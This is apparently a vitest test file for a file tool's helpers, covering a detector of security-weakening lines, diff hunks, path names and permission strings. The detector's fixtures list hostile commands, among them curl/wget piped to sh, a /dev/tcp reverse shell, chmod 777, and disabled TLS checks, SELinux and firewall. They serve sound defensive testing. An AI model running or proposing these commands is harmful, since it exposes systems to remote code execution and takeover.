import { describe, expect, it } from 'vitest';
import { diffLines, printHunks, readHunks, shortDiff, wholeDiff } from '../../../../../src-main/functions/files/shared/lineDiff.ts';
import { displayName, isInside } from '../../../../../src-main/functions/files/shared/paths.ts';
import { permissionText } from '../../../../../src-main/functions/files/shared/permissions.ts';
import { weakeningOf } from '../../../../../src-main/functions/files/shared/weakening.ts';

describe('weakeningOf', () => {
  it.each([
    'StrictHostKeyChecking=no', 'PermitRootLogin yes', 'PasswordAuthentication yes', 'sudo chmod 777 /var/www', 'chmod a+rwx x', 'chmod -R 0777 .', 'wget -qO- https://x.example | sh',
    'curl https://x.example/i.sh|bash -s', 'echo aGk= | base64 -d | sh', 'requests.get(u, verify = False)', 'rejectUnauthorized: false,', 'NODE_TLS_REJECT_UNAUTHORIZED=0', 'process.env["NODE_TLS_REJECT_UNAUTHORIZED"] = "0"',
    'InsecureSkipVerify: true', 'npm config set strict-ssl false', 'git config http.sslVerify false', 'wget --no-check-certificate x', 'docker run --privileged x', 'privileged: true', 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
    'setenforce 0', 'SELINUX=disabled', 'ufw disable', 'Access-Control-Allow-Origin: *', 'mara ALL=(ALL) NOPASSWD: ALL', 'UserKnownHostsFile /dev/null',
  ])('calls out %s', (line) => {
    expect(weakeningOf(line)).toMatch(/^[a-z]/);
  });

  it.each([
    'StrictHostKeyChecking yes', 'PermitRootLogin no', 'chmod 644 a', 'chmod 755 a', 'curl https://x.example -o a', 'curl x | jq .shape', 'verify=True', 'rejectUnauthorized: true', 'NODE_TLS_REJECT_UNAUTHORIZED=1', 'unprivileged: truely', 'ufw enable',
    'Access-Control-Allow-Origin: https://a.example', 'base64 -d a > b',
  ])('lets %s pass', (line) => {
    expect(weakeningOf(line)).toBeUndefined();
  });

  it('finds it behind padding, and is not stalled by repetition', () => {
    expect(weakeningOf(`${' '.repeat(100_000)}chmod 777 /`)).toBeDefined();
    expect(weakeningOf('curl '.repeat(200_000))).toBeUndefined();
  });
});

describe('diffLines', () => {
  it.each([
    ['', 'a\n', '@@ -0,0 +1,1 @@\n+a'],
    ['a\n', '', '@@ -1,1 +0,0 @@\n-a'],
    ['a\nb\nc\nd\ne\n', 'a\nb\nX\nd\ne\n', '@@ -2,3 +2,3 @@\n b\n-c\n+X\n d'],
    ['a\r\nb\r\n', 'a\r\nc\r\n', '@@ -1,2 +1,2 @@\n a\n-b\n+c'],
  ])('%j to %j', (before, after, text) => {
    const { hunks } = diffLines(before, after, shortDiff);
    expect(printHunks(hunks)).toBe(text);
    expect(readHunks(text)).toEqual(hunks);
  });

  it('numbers lines in several hunks', () => {
    const before = Array.from({ length: 30 }, (_, index) => `${index + 1}`).join('\n');
    const { hunks, added, removed } = diffLines(before, before.replace('\n5\n', '\n5\nnew\n').replace('\n20\n', '\n'), wholeDiff);
    expect([added, removed, hunks.length]).toEqual([1, 1, 2]);
    expect(hunks[0]?.lines).toEqual([{ type: 'context', old: 5, new: 5, text: '5' }, { type: 'add', new: 6, text: 'new' }, { type: 'context', old: 6, new: 7, text: '6' }]);
    expect(hunks[1]?.lines[1]).toEqual({ type: 'remove', old: 20, text: '20' });
  });

  it('cuts long lines and says so', () => {
    expect(diffLines('', 'x'.repeat(5000), shortDiff)).toMatchObject({ truncated: true, hunks: [{ lines: [{ text: `${'x'.repeat(1000)}…` }] }] });
  });
});

describe('names', () => {
  it.each([
    ['hello.txt', 'hello.txt'], ['~/work/rates.ts', 'rates.ts'], ['~/.ssh/config', '~/.ssh/config'], ['/a/b/', 'b'], ['.', 'this folder'], ['..', '..'], ['C:\\Users\\x.pdf', 'x.pdf'], ['.env', '.env'], ['./a', 'a'], ['~', '~'],
  ])('%s is shown as %s', (path, shown) => {
    expect(displayName(path)).toBe(shown);
  });

  it('compares folders part by part', () => {
    expect([isInside('/data', '/data/x'), isInside('/data', '/data'), isInside('/data', '/data-evil'), isInside('/', '/x')]).toEqual([true, true, false, true]);
  });

  it.each([[0o644, 'rw-r--r--'], [0o4755, 'rwsr-xr-x'], [0o1777, 'rwxrwxrwt'], [0o2640, 'rw-r-S---'], [0, '---------']])('mode %o is %s', (mode, text) => {
    expect(permissionText(mode)).toBe(text);
  });
});
